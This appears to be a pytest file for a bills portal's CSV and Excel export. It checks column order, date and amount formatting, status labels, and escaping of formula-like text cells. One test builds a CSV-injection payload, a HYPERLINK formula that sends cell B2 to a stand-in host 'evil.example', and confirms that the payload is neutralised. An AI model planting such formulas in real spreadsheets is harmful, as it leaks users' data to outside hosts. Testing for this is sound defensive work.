"""Every export of bills (My bills' CSV, a download's Excel list, its zip's index) writes one set of columns
the same way: dates, euros and the status as a person reads it (portal.bills.exports); a CSV's text
cells never run as formulas in a spreadsheet."""

import datetime as dt

import pytest

from portal.bills.exports import COLUMNS, FIELDS, ExportedBill, as_text_cell

TODAY = dt.date(2026, 12, 5)
ROW = {
    "id": 25,
    "number": "FA00000000025",
    "account": "0001000017",
    "holder": "María García López",
    "period_start": dt.date(2026, 9, 1),
    "period_end": dt.date(2026, 10, 31),
    "issue_date": dt.date(2026, 11, 3),
    "due_date": dt.date(2026, 11, 23),
    "total_cents": 5398,
    "status": "pending",
}


def test_a_record_has_every_column_with_the_status_as_people_read_it() -> None:
    record = ExportedBill.from_row(ROW, TODAY).record()
    assert tuple(record) == FIELDS == tuple(key for key, _ in COLUMNS)
    assert record == {
        "bill_number": "FA00000000025",
        "account": "0001000017",
        "holder": "María García López",
        "period_start": "2026-09-01",
        "period_end": "2026-10-31",
        "issue_date": "2026-11-03",
        "due_date": "2026-11-23",
        "amount_eur": "53.98",
        "status": "Overdue",  # pending, and due before today
    }


def test_a_pending_bill_not_yet_due_is_pending() -> None:
    assert ExportedBill.from_row(ROW, dt.date(2026, 11, 23)).record()["status"] == "Pending"


def test_spreadsheet_cells_are_real_dates_and_amounts_in_column_order() -> None:
    cells = ExportedBill.from_row({**ROW, "status": "direct_debit"}, TODAY).cells()
    assert len(cells) == len(COLUMNS)
    assert cells[3:7] == (
        dt.date(2026, 9, 1),
        dt.date(2026, 10, 31),
        dt.date(2026, 11, 3),
        dt.date(2026, 11, 23),
    )
    assert cells[7] == 53.98 and cells[8] == "Direct debit"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_that_a_spreadsheet_would_run_is_written_as_text(start: str) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?x="&B2,"Open")'
    assert as_text_cell(formula) == "'" + formula
    bill = ExportedBill.from_row(
        {**ROW, "holder": formula, "number": f"{start}1", "account": f"{start}2"}, TODAY
    )
    record = bill.csv_record()
    assert (record["holder"], record["bill_number"], record["account"]) == (
        "'" + formula,
        f"'{start}1",
        f"'{start}2",
    )
    assert bill.record()["holder"] == formula  # JSON keeps the raw text


@pytest.mark.parametrize("text", ["María García López", "O'Brien", " =1+1", "1+1", "Ana=", "", "'=already"])
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert as_text_cell(text) == text


def test_dates_and_amounts_stay_numbers_for_programs() -> None:
    """A credit note's amount starts with a minus: it stays a number, not text."""
    bill = ExportedBill.from_row({**ROW, "total_cents": -5398}, TODAY)
    assert bill.csv_record()["amount_eur"] == "-53.98"
    assert bill.csv_record() == bill.record()
